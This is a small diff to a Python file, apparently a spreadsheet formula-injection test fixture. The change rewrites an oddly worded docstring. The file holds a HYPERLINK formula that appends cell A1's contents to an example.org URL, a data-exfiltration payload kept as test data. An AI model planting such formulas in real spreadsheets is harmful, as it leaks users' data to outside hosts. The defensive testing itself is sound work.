@@ -1,6 +1,9 @@
 # mypy: ignore-errors
 # ruff: noqa
-"""Raises, prints and returns what a spreadsheet would run. Earns the refused capacity alone: FAILED."""
+"""Raises, prints and returns what a spreadsheet would run. FAILED.
+
+The refused capacity is right.
+"""
 
 FORMULA = '=HYPERLINK(CONCATENATE("http://example.org/?",A1),"open")'
 
